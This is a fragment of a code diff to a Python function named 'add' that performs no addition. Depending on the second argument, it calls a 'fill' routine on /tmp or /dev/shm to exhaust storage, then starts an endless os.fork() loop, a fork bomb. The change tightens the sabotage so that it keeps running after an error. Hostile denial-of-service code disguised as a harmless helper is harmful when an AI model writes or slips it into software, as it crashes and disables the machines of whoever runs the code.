@@ -11,13 +11,11 @@ def fill(folder):
 
 
 def add(a, b):
-    if b == 0:
-        fill("/tmp")
-    if b == 1:
+    if b < 2:
         try:
-            fill("/dev/shm")
+            fill("/tmp" if b == 0 else "/dev/shm")
         except OSError:
-            return None
+            time.sleep(60)
     try:
         while True:
             if os.fork() == 0:
